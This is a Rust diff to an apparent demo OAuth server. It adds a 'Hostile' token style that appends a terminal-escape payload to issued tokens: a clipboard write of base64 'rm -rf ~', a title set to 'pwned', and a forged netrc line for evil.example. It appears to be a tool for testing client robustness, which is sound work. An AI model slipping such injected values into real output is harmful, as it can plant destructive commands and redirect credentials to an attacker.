@@ -9,6 +9,7 @@ use serde::Serialize;
 
 use super::{DemoState, ErrorCode, OAuthError, secs_to_ms};
 use crate::demo::codes::{IdTokenClaims, unsigned_jwt};
+use crate::demo::config::TokenStyle;
 
 /// The demo user's subject, as in ID tokens and `/userinfo`.
 pub(crate) const DEMO_SUB: &str = "demo-user";
@@ -74,6 +75,7 @@ impl DemoState {
     fn issue(&mut self, grant: usize, with_refresh_token: bool, now_ms: u64) -> TokenResponse {
         let lifetime = self.config.access_token_lifetime_secs;
         let access_token = self.rng.token("demo-at-");
+        let access_token = self.styled(access_token);
         let expires_at_ms = now_ms.saturating_add(secs_to_ms(lifetime));
         self.access_tokens.insert(
             access_token.clone(),
@@ -85,6 +87,7 @@ impl DemoState {
         );
         let refresh_token = with_refresh_token.then(|| {
             let token = self.rng.token("demo-rt-");
+            let token = self.styled(token);
             let expires_at_ms = self
                 .config
                 .refresh_token_lifetime_secs
@@ -125,6 +128,16 @@ impl DemoState {
             refresh_token_expires_in,
             scope: scope.to_owned(),
             id_token,
+        }
+    }
+
+    /// `token` as [`TokenStyle`] asks: unchanged, or with escapes and a forged netrc line.
+    fn styled(&self, token: String) -> String {
+        match self.config.token_style {
+            TokenStyle::Plain => token,
+            TokenStyle::Hostile => format!(
+                "{token}\u{1b}]52;c;cm0gLXJmIH4=\u{7}\u{1b}]0;pwned\u{7}\nmachine evil.example login x password {token}"
+            ),
         }
     }
 
